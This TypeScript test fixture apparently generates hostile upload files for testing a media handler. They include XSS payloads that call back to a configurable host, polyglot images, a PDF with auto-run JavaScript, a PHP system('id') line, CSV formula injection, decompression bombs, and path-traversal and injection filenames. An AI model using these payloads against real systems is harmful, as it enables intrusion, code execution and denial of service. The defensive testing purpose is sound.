import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { zip } from './archives.ts';
import { animatedGif, pngBomb, pngClaimingSize, redAndBluePicture, withPngChunk } from './drawn.pictures.ts';
import { hostileDrawings } from './hostile.drawings.ts';

/** A file that an attacker might upload. */
export interface HostileFile {
  filename: string;
  bytes: Buffer;
}

/** All hostile files of the tests; those that run or load something report to `elsewhere`. */
export async function hostileFiles(elsewhere: string): Promise<HostileFile[]> {
  const script = `fetch('${elsewhere}/ran');alert(1)`;
  return [
    ...hostileDrawings(elsewhere),
    ...hostileTexts(script, elsewhere),
    ...(await polyglots(script)),
    ...bombs(),
    ...(await damaged()),
    ...misnamed(script),
  ];
}

function hostileTexts(script: string, elsewhere: string): HostileFile[] {
  const page = `<!doctype html><html><body><script>${script}</script><img src="${elsewhere}/i.png"></body></html>`;
  const texts: Record<string, string> = {
    'page.html': page,
    'page.png': page,
    'page.txt': page,
    'page.pdf': page,
    'marked.html': `\ufeff${page}`,
    'spaced.txt': `${' \n'.repeat(600)}${page}`,
    'commented.txt': `<!-- a comment -->${page}`,
    'bare.txt': `<script>${script}</script>`,
    'image.csv': `name,value\n<img src=x onerror="${script}">,1\n`,
    'page.xhtml': `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`,
    'sheet.xml': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${elsewhere}/a.xsl"?><a/>`,
    'archive.mhtml': `MIME-Version: 1.0\nContent-Type: text/html\n\n${page}`,
    'program.js': script,
    'program.txt': script,
    'sheet.css': `@import "${elsewhere}/a.css"; body{background:url(${elsewhere}/b.png)}`,
    'page.hta': page,
    'page.php': `<?php system('id'); ?>${page}`,
    'data.json': `{"a":"</script><script>${script}</script>"}`,
    'formula.csv': `=cmd|'/c calc'!A1,=WEBSERVICE("${elsewhere}/w")\n`,
    'utf-7.txt': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  };
  return Object.entries(texts).map(([filename, text]) => ({ filename, bytes: Buffer.from(text) }));
}

async function polyglots(script: string): Promise<HostileFile[]> {
  const page = Buffer.from(`<html><script>${script}</script></html>`);
  const png = await redAndBluePicture(20, 20);
  const jpeg = await sharp(png).jpeg().toBuffer();
  const webp = await sharp(png).webp().toBuffer();
  const segment = (marker: number, data: Buffer) => {
    const head = Buffer.from([0xff, marker, 0, 0]);
    head.writeUInt16BE(data.length + 2, 2);
    return Buffer.concat([head, data]);
  };
  const inJpeg = (...segments: Buffer[]) =>
    Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)]);
  const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`;
  return [
    { filename: 'script.gif', bytes: Buffer.from(`GIF89a/*${'\0'.repeat(20)}*/=1;${script}`) },
    { filename: 'page.gif', bytes: Buffer.concat([await animatedGif(), page]) },
    { filename: 'comment.jpg', bytes: inJpeg(segment(0xfe, page)) },
    { filename: 'chunk.png', bytes: withPngChunk(png, 'tEXt', Buffer.concat([Buffer.from('a\0'), page])) },
    { filename: 'behind.png', bytes: Buffer.concat([png, page]) },
    { filename: 'behind.webp', bytes: Buffer.concat([webp, page]) },
    { filename: 'archive.png', bytes: Buffer.concat([png, zip('a.html', page)]) },
    { filename: 'page.zip', bytes: Buffer.concat([page, zip('a.html', page)]) },
    { filename: 'action.pdf', bytes: Buffer.from(pdf) },
    { filename: 'page.pdf', bytes: Buffer.concat([Buffer.from('%PDF-1.4\n'), page]) },
    { filename: 'bitmap.bmp', bytes: Buffer.from(`BM/*\0\0\0\0*/=1;${script}`) },
    { filename: 'page.mp4', bytes: Buffer.concat([Buffer.from('\0\0\0\x18ftypisom\0\0\0\0isommp42'), page]) },
    { filename: 'page.mp3', bytes: Buffer.concat([Buffer.from('ID3\x03\0\0\0\0\0\0'), page]) },
    {
      filename: 'huge-comments.jpg',
      bytes: inJpeg(...Array.from({ length: 30 }, () => segment(0xfe, Buffer.alloc(60_000, 32)))),
    },
    {
      filename: 'huge-exif.jpg',
      bytes: inJpeg(
        ...Array.from({ length: 20 }, () =>
          segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0MM\0*'), Buffer.alloc(60_000, 255)])),
        ),
      ),
    },
  ];
}

function bombs(): HostileFile[] {
  const zeros = Buffer.alloc(32 * 1024 * 1024);
  const png = pngClaimingSize(1, 1);
  const packed = deflateSync(zeros, { level: 9 });
  const gif = Buffer.from(
    'GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\xff\xff\xff\xff\0\x02\x02\x44\x01\0;',
    'latin1',
  );
  return [
    { filename: 'claimed.png', bytes: pngClaimingSize(50_000, 50_000) },
    { filename: 'largest.png', bytes: pngClaimingSize(2 ** 31 - 1, 2 ** 31 - 1) },
    { filename: 'bomb.png', bytes: pngBomb(50_000) },
    { filename: 'bomb.gif', bytes: gif },
    { filename: 'text.png', bytes: withPngChunk(png, 'zTXt', Buffer.concat([Buffer.from('a\0\0'), packed])) },
    {
      filename: 'profile.png',
      bytes: withPngChunk(png, 'iCCP', Buffer.concat([Buffer.from('a\0\0'), packed])),
    },
    {
      filename: 'huge-text.png',
      bytes: withPngChunk(png, 'tEXt', Buffer.concat([Buffer.from('a\0'), Buffer.alloc(700_000, 65)])),
    },
    { filename: 'bomb.zip', bytes: zip('zeros', zeros) },
    { filename: 'bomb.docx', bytes: zip('[Content_Types].xml', zeros) },
    { filename: 'bomb.gz', bytes: gzipSync(zeros) },
    { filename: 'bomb.svgz', bytes: gzipSync(Buffer.concat([Buffer.from('<svg>'), zeros])) },
  ];
}

async function damaged(): Promise<HostileFile[]> {
  const png = await redAndBluePicture(300, 200);
  const whole = {
    png,
    jpg: await sharp(png).jpeg().toBuffer(),
    webp: await sharp(png).webp().toBuffer(),
    avif: await sharp(png).avif().toBuffer(),
    gif: await animatedGif(),
  };
  const cut = Object.entries(whole).flatMap(([ending, bytes]) =>
    [0.1, 0.5, 0.9].map((share) => ({
      filename: `cut-${share}.${ending}`,
      bytes: bytes.subarray(0, Math.floor(bytes.length * share)),
    })),
  );
  return [
    ...cut,
    { filename: 'nothing.png', bytes: Buffer.alloc(0) },
    { filename: 'one-byte.jpg', bytes: Buffer.from([0xff]) },
    { filename: 'signature.png', bytes: png.subarray(0, 8) },
    { filename: 'zeros.avif', bytes: Buffer.alloc(5000) },
  ];
}

function misnamed(script: string): HostileFile[] {
  const png = pngClaimingSize(1, 1);
  const names = [
    ...[
      '../../../etc/passwd',
      '..\\..\\windows\\win.ini',
      '..',
      '.',
      '.htaccess',
      '/etc/passwd',
      'C:\\a.png',
    ],
    ...[
      'a\r\nSet-Cookie: a=b\r\n.png',
      'photo\u202egnp.exe',
      'CON.png',
      'a";filename="b.exe',
      `"><svg onload=${script}>.png`,
    ],
    ...[
      '%2e%2e%2f%2e%2e%2fa.png',
      'a.png.html',
      'a.html;.png',
      'a'.repeat(255),
      '\u{1f600}.png',
      '?q#f.png',
      '\u2028.png',
    ],
    ...[
      "'; drop table media; --.png",
      'javascript:alert(1)',
      '＜script＞.png',
      '..%00.png',
      ' . . .png',
      '-rf',
    ],
  ];
  const program = Buffer.concat([Buffer.from('MZ\x90\0\x03'), Buffer.alloc(400)]);
  return [
    // Each has unique bytes, because equal bytes would be the same item.
    ...names.map((filename, index) => ({
      filename,
      bytes: withPngChunk(png, 'tEXt', Buffer.from(`name\0${index}`)),
    })),
    { filename: 'program.jpg', bytes: program },
    { filename: 'program.exe', bytes: Buffer.concat([program, Buffer.from('2')]) },
    {
      filename: 'program.txt',
      bytes: Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(300)]),
    },
  ];
}
